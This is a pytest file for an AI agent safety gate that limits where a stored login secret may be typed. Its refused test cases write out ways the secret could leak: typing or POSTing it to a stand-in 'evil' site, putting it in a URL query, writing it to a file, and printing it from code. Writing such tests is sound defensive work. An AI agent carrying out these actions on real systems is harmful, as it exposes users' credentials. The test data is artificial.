"""Secrets at the gate: typed into their own site where the words ask for it, and nothing else."""

import pytest

from agents.safety.gate import Gate
from agents.safety.grants import Grants
from app.schemas import Action, Effect, Site, Verdict
from app.vault import Secret, Vault

SITES = [Site(name="shop", url="http://127.0.0.1:9001/"), Site(name="evil", url="http://127.0.0.1:9002/")]
VAULT = Vault({"shop-key": Secret(value="tulip-River-88", sites=("shop",))}, {s.name: s.url for s in SITES})
HANDLE = "{{secret:shop-key}}"
HERE, THERE = "http://127.0.0.1:9001/login", "http://127.0.0.1:9002/login"


def judged(
    kind: str, target: str, words: str = "Log in to the shop.", effect: Effect = Effect.READ, **arguments: object
) -> tuple[str, str]:
    gate = Gate("allow_listed", Grants.of_task(SITES, set()), vault=VAULT)
    gate.follow([words], [])
    decision = gate.judge(Action(id="a", agent="web", kind=kind, effect=effect, target=target, arguments=arguments))
    return str(decision.verdict), decision.rule


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        (("web.type", HERE, "Log in to the shop."), ("allow", "read")),
        (("web.type", HERE, f"My password is {HANDLE}."), ("allow", "read")),
        (("web.type", HERE, "Find the price of a lamp."), ("ask", "secret")),
    ],
)
def test_a_secret_is_typed_where_the_words_ask_for_it(action, expected):
    kind, target, words = action
    assert judged(kind, target, words, text=HANDLE, page_url=target) == expected


@pytest.mark.parametrize(
    ("kind", "target", "arguments", "rule"),
    [
        ("web.type", THERE, {"text": HANDLE, "page_url": THERE}, "secret-audience"),
        ("web.type", "POST http://127.0.0.1:9002/in", {"text": HANDLE, "page_url": HERE, "enter": True}, "secret-audience"),
        ("web.type", HERE, {"text": "{{secret:other}}", "page_url": HERE}, "unknown-secret"),
        ("web.type", HERE, {"text": "x", "page_url": HERE, "label": HANDLE}, "secret-elsewhere"),
        ("web.visit", f"http://127.0.0.1:9001/?q={HANDLE}", {}, "secret-elsewhere"),
        ("files.write", "a.txt", {"text": HANDLE}, "secret-elsewhere"),
        ("code.run", "python", {"code": f"print('{HANDLE}')"}, "secret-elsewhere"),
        ("web.select", HERE, {"text": HANDLE, "page_url": HERE}, "secret-elsewhere"),
    ],
)
def test_a_secret_goes_nowhere_else(kind, target, arguments, rule):
    effect = {"files.write": Effect.WRITE, "code.run": Effect.EXEC}.get(kind, Effect.WRITE if target.startswith("POST") else Effect.READ)
    assert judged(kind, target, effect=effect, **arguments) == (str(Verdict.REFUSE), rule)
